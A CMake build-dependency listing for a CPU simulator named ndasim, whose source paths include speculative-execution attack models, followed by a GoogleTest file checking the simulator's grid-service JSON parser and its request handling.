  "/root/repo/src/attacks/spectre_v11.cc" "src/CMakeFiles/ndasim.dir/attacks/spectre_v11.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/spectre_v11.cc.o.d"
  "/root/repo/src/attacks/spectre_v2.cc" "src/CMakeFiles/ndasim.dir/attacks/spectre_v2.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/spectre_v2.cc.o.d"
  "/root/repo/src/attacks/ssb.cc" "src/CMakeFiles/ndasim.dir/attacks/ssb.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/attacks/ssb.cc.o.d"
  "/root/repo/src/branch/btb.cc" "src/CMakeFiles/ndasim.dir/branch/btb.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/branch/btb.cc.o.d"
  "/root/repo/src/branch/direction_predictor.cc" "src/CMakeFiles/ndasim.dir/branch/direction_predictor.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/branch/direction_predictor.cc.o.d"
  "/root/repo/src/branch/predictor_unit.cc" "src/CMakeFiles/ndasim.dir/branch/predictor_unit.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/branch/predictor_unit.cc.o.d"
  "/root/repo/src/branch/ras.cc" "src/CMakeFiles/ndasim.dir/branch/ras.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/branch/ras.cc.o.d"
  "/root/repo/src/common/histogram.cc" "src/CMakeFiles/ndasim.dir/common/histogram.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/common/histogram.cc.o.d"
  "/root/repo/src/common/log.cc" "src/CMakeFiles/ndasim.dir/common/log.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/common/log.cc.o.d"
  "/root/repo/src/common/stats_util.cc" "src/CMakeFiles/ndasim.dir/common/stats_util.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/common/stats_util.cc.o.d"
  "/root/repo/src/core/core_config.cc" "src/CMakeFiles/ndasim.dir/core/core_config.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/core_config.cc.o.d"
  "/root/repo/src/core/core_factory.cc" "src/CMakeFiles/ndasim.dir/core/core_factory.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/core_factory.cc.o.d"
  "/root/repo/src/core/inorder_core.cc" "src/CMakeFiles/ndasim.dir/core/inorder_core.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/inorder_core.cc.o.d"
  "/root/repo/src/core/issue_queue.cc" "src/CMakeFiles/ndasim.dir/core/issue_queue.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/issue_queue.cc.o.d"
  "/root/repo/src/core/lsq.cc" "src/CMakeFiles/ndasim.dir/core/lsq.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/lsq.cc.o.d"
  "/root/repo/src/core/ooo_core.cc" "src/CMakeFiles/ndasim.dir/core/ooo_core.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/ooo_core.cc.o.d"
  "/root/repo/src/core/perf_counters.cc" "src/CMakeFiles/ndasim.dir/core/perf_counters.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/perf_counters.cc.o.d"
  "/root/repo/src/core/phys_reg_file.cc" "src/CMakeFiles/ndasim.dir/core/phys_reg_file.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/core/phys_reg_file.cc.o.d"
  "/root/repo/src/debug/pipe_trace.cc" "src/CMakeFiles/ndasim.dir/debug/pipe_trace.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/debug/pipe_trace.cc.o.d"
  "/root/repo/src/harness/csv.cc" "src/CMakeFiles/ndasim.dir/harness/csv.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/harness/csv.cc.o.d"
  "/root/repo/src/harness/profiles.cc" "src/CMakeFiles/ndasim.dir/harness/profiles.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/harness/profiles.cc.o.d"
  "/root/repo/src/harness/runner.cc" "src/CMakeFiles/ndasim.dir/harness/runner.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/harness/runner.cc.o.d"
  "/root/repo/src/harness/table_printer.cc" "src/CMakeFiles/ndasim.dir/harness/table_printer.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/harness/table_printer.cc.o.d"
  "/root/repo/src/isa/interpreter.cc" "src/CMakeFiles/ndasim.dir/isa/interpreter.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/isa/interpreter.cc.o.d"
  "/root/repo/src/isa/microop.cc" "src/CMakeFiles/ndasim.dir/isa/microop.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/isa/microop.cc.o.d"
  "/root/repo/src/isa/opcode.cc" "src/CMakeFiles/ndasim.dir/isa/opcode.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/isa/opcode.cc.o.d"
  "/root/repo/src/isa/program.cc" "src/CMakeFiles/ndasim.dir/isa/program.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/isa/program.cc.o.d"
  "/root/repo/src/isa/random_program.cc" "src/CMakeFiles/ndasim.dir/isa/random_program.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/isa/random_program.cc.o.d"
  "/root/repo/src/isa/transform.cc" "src/CMakeFiles/ndasim.dir/isa/transform.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/isa/transform.cc.o.d"
  "/root/repo/src/mem/cache.cc" "src/CMakeFiles/ndasim.dir/mem/cache.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/mem/cache.cc.o.d"
  "/root/repo/src/mem/hierarchy.cc" "src/CMakeFiles/ndasim.dir/mem/hierarchy.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/mem/hierarchy.cc.o.d"
  "/root/repo/src/mem/memory_map.cc" "src/CMakeFiles/ndasim.dir/mem/memory_map.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/mem/memory_map.cc.o.d"
  "/root/repo/src/nda/policy.cc" "src/CMakeFiles/ndasim.dir/nda/policy.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/nda/policy.cc.o.d"
  "/root/repo/src/workloads/branchy.cc" "src/CMakeFiles/ndasim.dir/workloads/branchy.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/branchy.cc.o.d"
  "/root/repo/src/workloads/compress.cc" "src/CMakeFiles/ndasim.dir/workloads/compress.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/compress.cc.o.d"
  "/root/repo/src/workloads/compute.cc" "src/CMakeFiles/ndasim.dir/workloads/compute.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/compute.cc.o.d"
  "/root/repo/src/workloads/crc.cc" "src/CMakeFiles/ndasim.dir/workloads/crc.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/crc.cc.o.d"
  "/root/repo/src/workloads/filter.cc" "src/CMakeFiles/ndasim.dir/workloads/filter.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/filter.cc.o.d"
  "/root/repo/src/workloads/gametree.cc" "src/CMakeFiles/ndasim.dir/workloads/gametree.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/gametree.cc.o.d"
  "/root/repo/src/workloads/hashjoin.cc" "src/CMakeFiles/ndasim.dir/workloads/hashjoin.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/hashjoin.cc.o.d"
  "/root/repo/src/workloads/interp.cc" "src/CMakeFiles/ndasim.dir/workloads/interp.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/interp.cc.o.d"
  "/root/repo/src/workloads/matmul.cc" "src/CMakeFiles/ndasim.dir/workloads/matmul.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/matmul.cc.o.d"
  "/root/repo/src/workloads/mixed.cc" "src/CMakeFiles/ndasim.dir/workloads/mixed.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/mixed.cc.o.d"
  "/root/repo/src/workloads/pointer_chase.cc" "src/CMakeFiles/ndasim.dir/workloads/pointer_chase.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/pointer_chase.cc.o.d"
  "/root/repo/src/workloads/radixsort.cc" "src/CMakeFiles/ndasim.dir/workloads/radixsort.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/radixsort.cc.o.d"
  "/root/repo/src/workloads/stencil.cc" "src/CMakeFiles/ndasim.dir/workloads/stencil.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/stencil.cc.o.d"
  "/root/repo/src/workloads/stream.cc" "src/CMakeFiles/ndasim.dir/workloads/stream.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/stream.cc.o.d"
  "/root/repo/src/workloads/strproc.cc" "src/CMakeFiles/ndasim.dir/workloads/strproc.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/strproc.cc.o.d"
  "/root/repo/src/workloads/treewalk.cc" "src/CMakeFiles/ndasim.dir/workloads/treewalk.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/treewalk.cc.o.d"
  "/root/repo/src/workloads/workload.cc" "src/CMakeFiles/ndasim.dir/workloads/workload.cc.o" "gcc" "src/CMakeFiles/ndasim.dir/workloads/workload.cc.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
