/**
 * @file
 * Tests of the grid service (harness/grid_service.hh): the JSON
 * parser must accept the protocol's documents and reject malformed
 * input without crashing; handleRequest must stream progress, cell,
 * and done lines for well-formed requests, emit a single error line
 * (and survive) for bad ones, and share its checkpoint corpus across
 * requests so a repeated grid is served without fast-forward work.
 */

#include <gtest/gtest.h>

#include <filesystem>
#include <string>
#include <vector>

#include "ckpt/checkpoint_store.hh"
#include "harness/grid_service.hh"

namespace nda {
namespace {

namespace fs = std::filesystem;

JsonValue
parsed(const std::string &text)
{
    JsonValue v;
    std::string error;
    EXPECT_TRUE(parseJson(text, v, error)) << error << " in " << text;
    return v;
}

// --------------------------------------------------------------------------
// JSON parser
// --------------------------------------------------------------------------

TEST(GridServiceJson, ParsesNestedDocument)
{
    const JsonValue v = parsed(
        R"({"name":"x\n\"y\"","n":-2.5,"ok":true,"none":null,)"
        R"("list":[1,[2,3],{"k":"v"}]})");
    ASSERT_EQ(v.kind, JsonValue::Kind::kObject);
    ASSERT_NE(v.find("name"), nullptr);
    EXPECT_EQ(v.find("name")->string, "x\n\"y\"");
    EXPECT_EQ(v.find("n")->number, -2.5);
    EXPECT_TRUE(v.find("ok")->boolean);
    EXPECT_EQ(v.find("none")->kind, JsonValue::Kind::kNull);
    const JsonValue &list = *v.find("list");
    ASSERT_EQ(list.array.size(), 3u);
    EXPECT_EQ(list.array[1].array[1].number, 3.0);
    EXPECT_EQ(list.array[2].find("k")->string, "v");
    EXPECT_EQ(v.find("missing"), nullptr);
}

TEST(GridServiceJson, RejectsMalformedInput)
{
    const char *bad[] = {
        "",
        "{",
        "[1,",
        "{\"a\":}",
        "{\"a\":1,}",
        "{\"a\" 1}",
        "\"unterminated",
        "{\"a\":1} trailing",
        "nulL",
        "{\"esc\":\"\\q\"}",
        "{\"u\":\"\\u12\"}",
    };
    for (const char *text : bad) {
        JsonValue v;
        std::string error;
        EXPECT_FALSE(parseJson(text, v, error))
            << "accepted: " << text;
        EXPECT_FALSE(error.empty());
    }

    // Nesting depth is bounded — a bracket bomb fails cleanly
    // instead of overflowing the stack.
    const std::string deep(1000, '[');
    JsonValue v;
    std::string error;
    EXPECT_FALSE(parseJson(deep, v, error));
}

// --------------------------------------------------------------------------
// Request handling
// --------------------------------------------------------------------------

struct Captured {
    std::vector<std::string> lines;
    GridService::Emit
    emit()
    {
        return [this](const std::string &line) {
            lines.push_back(line);
        };
    }
    /** Response lines of one type, parsed. */
    std::vector<JsonValue>
    ofType(const std::string &type) const
    {
        std::vector<JsonValue> out;
        for (const std::string &line : lines) {
            const JsonValue v = parsed(line);
            if (v.find("type") && v.find("type")->string == type)
                out.push_back(v);
        }
        return out;
    }
};

const char *kSmallRequest =
    R"({"id":"t1","workloads":["compute"],"profiles":["OoO","Strict"],)"
    R"("fastforward":6000,"warmup":500,"measure":1000,"samples":2,)"
    R"("jobs":2,"chain":true})";

TEST(GridService, RunsGridAndStreamsCellsThenDone)
{
    GridService service;
    Captured cap;
    ASSERT_TRUE(service.handleRequest(kSmallRequest, cap.emit()));

    const auto cells = cap.ofType("cell");
    ASSERT_EQ(cells.size(), 2u);
    EXPECT_EQ(cells[0].find("workload")->string, "compute");
    EXPECT_EQ(cells[0].find("profile")->string, "OoO");
    EXPECT_EQ(cells[1].find("profile")->string, "Strict");
    for (const JsonValue &cell : cells) {
        EXPECT_EQ(cell.find("id")->string, "t1");
        EXPECT_GT(cell.find("cpi")->number, 0.0);
        EXPECT_EQ(cell.find("samples")->number, 2.0);
    }

    const auto progress = cap.ofType("progress");
    ASSERT_FALSE(progress.empty());
    EXPECT_EQ(progress.back().find("done")->number, 4.0);
    EXPECT_EQ(progress.back().find("total")->number, 4.0);

    const auto done = cap.ofType("done");
    ASSERT_EQ(done.size(), 1u);
    EXPECT_EQ(done[0].find("cells")->number, 2.0);
    EXPECT_EQ(done[0].find("windows")->number, 4.0);
    // The done line is last.
    EXPECT_EQ(parsed(cap.lines.back()).find("type")->string, "done");

    EXPECT_EQ(service.stats().requests, 1u);
    EXPECT_EQ(service.stats().cells, 2u);
    EXPECT_EQ(service.stats().errors, 0u);
}

TEST(GridService, RejectsBadRequestsWithErrorLinesAndSurvives)
{
    GridService service;
    const struct {
        const char *request;
        const char *needle;
    } cases[] = {
        {"not json at all", "bad JSON"},
        {"[1,2,3]", "must be a JSON object"},
        {R"({"workloads":["nope"]})", "unknown workload"},
        {R"({"profiles":["NoSuch"]})", "unknown profile"},
        {R"({"chain":true})", "stride"},
        {R"({"samples":0})", "samples"},
        {R"({"measure":0})", "measure"},
        {R"({"samples":"three"})", "non-negative number"},
        {R"({"workloads":"compute"})", "array of strings"},
        {R"({"chain":1})", "boolean"},
    };
    for (const auto &c : cases) {
        Captured cap;
        EXPECT_FALSE(service.handleRequest(c.request, cap.emit()))
            << c.request;
        ASSERT_EQ(cap.lines.size(), 1u) << c.request;
        const JsonValue v = parsed(cap.lines[0]);
        EXPECT_EQ(v.find("type")->string, "error");
        EXPECT_NE(v.find("error")->string.find(c.needle),
                  std::string::npos)
            << "for " << c.request << " got: "
            << v.find("error")->string;
    }
    EXPECT_EQ(service.stats().errors, std::size(cases));
    EXPECT_EQ(service.stats().requests, 0u);

    // The service still serves real work afterwards.
    Captured cap;
    EXPECT_TRUE(service.handleRequest(kSmallRequest, cap.emit()));
    EXPECT_EQ(cap.ofType("done").size(), 1u);
}

TEST(GridService, SharesCorpusAcrossRequestsBitIdentically)
{
    const fs::path dir =
        fs::path(testing::TempDir()) / "grid_service_corpus";
    fs::remove_all(dir);
    CheckpointStore store(dir.string());
    GridService service(&store);

    Captured first, second;
    ASSERT_TRUE(service.handleRequest(kSmallRequest, first.emit()));
    ASSERT_TRUE(service.handleRequest(kSmallRequest, second.emit()));

    const auto cold = first.ofType("done");
    const auto warm = second.ofType("done");
    ASSERT_EQ(cold.size(), 1u);
    ASSERT_EQ(warm.size(), 1u);
    EXPECT_EQ(cold[0].find("ckpt_hits")->number, 0.0);
    EXPECT_GT(cold[0].find("ckpt_misses")->number, 0.0);
    EXPECT_GT(warm[0].find("ckpt_hits")->number, 0.0);
    EXPECT_EQ(warm[0].find("ckpt_misses")->number, 0.0);
    EXPECT_EQ(warm[0].find("ff_runs")->number, 0.0)
        << "second request must run no fast-forwards";

    // Cell lines are rendered deterministically: the warm request's
    // results are byte-identical to the cold request's.
    const auto cold_cells = first.ofType("cell");
    const auto warm_cells = second.ofType("cell");
    ASSERT_EQ(cold_cells.size(), warm_cells.size());
    std::vector<std::string> cold_lines, warm_lines;
    for (const std::string &line : first.lines)
        if (line.find("\"cell\"") != std::string::npos)
            cold_lines.push_back(line);
    for (const std::string &line : second.lines)
        if (line.find("\"cell\"") != std::string::npos)
            warm_lines.push_back(line);
    EXPECT_EQ(cold_lines, warm_lines);

    EXPECT_EQ(service.stats().ckptHits,
              static_cast<std::uint64_t>(
                  warm[0].find("ckpt_hits")->number));
    fs::remove_all(dir);
}

} // namespace
} // namespace nda
